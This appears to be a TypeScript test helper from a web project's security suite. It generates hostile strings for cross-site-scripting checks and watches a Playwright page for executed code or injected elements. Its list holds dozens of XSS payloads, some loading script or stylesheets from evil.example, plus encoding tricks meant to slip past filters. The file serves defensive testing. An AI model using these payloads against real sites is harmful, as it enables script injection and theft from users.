import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';

import type { Page } from 'playwright-core';

import { ROOT } from '../system/serving.js';

/** A public list of strings that break software, where it lies beside the project. It is not part of it. */
const NAUGHTY = join(ROOT, '..', 'shared', 'data', 'hostile', 'naughty-strings.json');

/** Ways to make a browser run `pwned()`: elements, handlers, addresses, styles, templates, broken markup. */
const FORMS = [
  '<script>pwned()</script>',
  '<script src="https://evil.example/x.js"></script>',
  '<script type="module">pwned()</script>',
  '<img src=x onerror=pwned()>',
  '<img src=x onerror="&#112;wned()">',
  '<image href=x onerror=pwned()>',
  '<svg onload=pwned()>',
  '<svg><script>pwned()</script></svg>',
  '<svg><animate onbegin=pwned() attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><a href=javascript:pwned()>"/>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=pwned()>">',
  '<iframe src="javascript:pwned()"></iframe>',
  '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
  '<object data="javascript:pwned()"></object>',
  '<embed src="javascript:pwned()">',
  '<body onload=pwned()>',
  '<details open ontoggle=pwned()>x</details>',
  '<input autofocus onfocus=pwned()>',
  '<video><source onerror=pwned()></video>',
  '<audio src=x onerror=pwned()>',
  '<marquee onstart=pwned()>',
  '<form action="javascript:pwned()"><button>x</button></form>',
  '<a href="javascript:pwned()">x</a>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<template><script>pwned()</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
  '</textarea><script>pwned()</script>',
  '</title><script>pwned()</script>',
  '</span></div><script>pwned()</script>',
  '" onmouseover="pwned()" x="',
  "' onfocus='pwned()' autofocus x='",
  '"><img src=x onerror=pwned()>',
  'javascript:pwned()',
  'JaVaScRiPt:pwned()',
  'java\nscript:pwned()',
  'java\tscript:pwned()',
  '\u0001javascript:pwned()',
  ' javascript:pwned()',
  'javascript&colon;pwned()',
  'javascript://%0apwned()',
  'vbscript:pwned()',
  'data:text/html,<script>pwned()</script>',
  'data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="pwned()"/>',
  'blob:https://evil.example/x',
  'filesystem:https://evil.example/x',
  'http://evil.example/x.svg',
  '//evil.example/x.svg',
  '\\\\evil.example\\x.svg',
  '/\\evil.example/x.svg',
  'file:///etc/passwd',
  'red;background:url(https://evil.example/x)',
  '#fff;}*{background:url(https://evil.example/x)}',
  '{{constructor.constructor("pwned()")()}}',
  '${pwned()}',
  '<%= pwned() %>',
  '__proto__',
  'constructor',
  '&lt;script&gt;pwned()&lt;/script&gt;',
  '<![CDATA[<script>pwned()</script>]]>',
  '<!--><script>pwned()</script>-->',
  '\u202e<script>pwned()</script>',
  '\ufeff<script>pwned()</script>',
  '<\u0000script>pwned()</script>',
  '＜script＞pwned()＜/script＞',
] as const;

/** What is done to each form, twice in every combination, so that a filter would miss it. */
const DISGUISES: readonly ((form: string) => string)[] = [
  (form) => form,
  (form) => form.toUpperCase().replaceAll('PWNED', 'pwned'),
  (form) => `">${form}`,
  (form) => `'>${form}<!--`,
  (form) => `hello ${form} world`,
  (form) => form.replaceAll('=', '\n=\t').replaceAll(' ', '/'),
  (form) => encodeURIComponent(form),
  (form) => form.replaceAll('<', '<<').replaceAll('>', '>>'),
  (form) => form.replaceAll('<', '&lt;').replaceAll('"', '&quot;'),
  (form) => form.replaceAll('pwned', '\\u0070wned'),
  (form) => `\u200b${Array.from(form).join('\u200d')}`,
];

/** Of the forms disguised twice every so many-th is tried; all of them with 1. */
const STEP = Number(process.env.HOSTILE_STEP ?? 8);

/** Every string that is tried, each once. */
export function hostileStrings(): readonly string[] {
  const once = FORMS.flatMap((form) => DISGUISES.map((disguise) => disguise(form)));
  const twice = once.flatMap((form) => DISGUISES.map((disguise) => disguise(form)));
  const some = twice.filter((_, index) => index % STEP === 0);
  return [...new Set([...once, ...some, ...naughtyStrings()])].filter((text) => text !== '');
}

function naughtyStrings(): readonly string[] {
  if (existsSync(NAUGHTY)) return JSON.parse(readFileSync(NAUGHTY, 'utf8')) as string[];
  process.stdout.write('      without the public list of naughty strings, which is not beside the project\n');
  return [];
}

/** Must be called before the page is opened: whatever runs is counted. */
export async function watchForExecution(page: Page): Promise<void> {
  await page.addInitScript(`
    globalThis.executed = [];
    for (const name of ['pwned', 'alert', 'confirm', 'prompt'])
      globalThis[name] = (text) => { globalThis.executed.push(name + ' ' + text); };
    addEventListener('error', ({ target }) => { if (target?.tagName === 'SCRIPT') globalThis.executed.push('a script was loaded'); }, true);
  `);
}

/** What ran although nobody wrote it as a program. */
export function executedOn(page: Page): Promise<readonly string[]> {
  return page.evaluate('globalThis.executed');
}

/**
 * What of a tree no data may bring about: elements we never make, handlers, addresses that run or lead astray.
 *
 * @param root - An expression for the tree's root.
 * @param elements - What we make, in lower case.
 */
export function intrudersIn(page: Page, root: string, elements: readonly string[]): Promise<readonly string[]> {
  return page.evaluate(`(() => {
    const known = new Set(${JSON.stringify(elements)});
    const schemes = new Set(['http:', 'https:', 'mailto:', 'tel:']);
    return [...(${root}).querySelectorAll('*')].flatMap((element) => {
      const name = element.localName;
      const found = known.has(name) ? [] : ['element ' + name];
      for (const attribute of element.attributes)
        if (attribute.name.startsWith('on') || attribute.name === 'srcdoc') found.push(name + ' ' + attribute.name);
      if (name === 'a' && !schemes.has(element.protocol)) found.push('link ' + element.href);
      if (name === 'img' && !(element.src.startsWith('https://') || element.src.startsWith(location.origin) || element.src.startsWith(globalThis.base ?? '-')))
        found.push('picture ' + element.src);
      return found;
    });
  })()`);
}
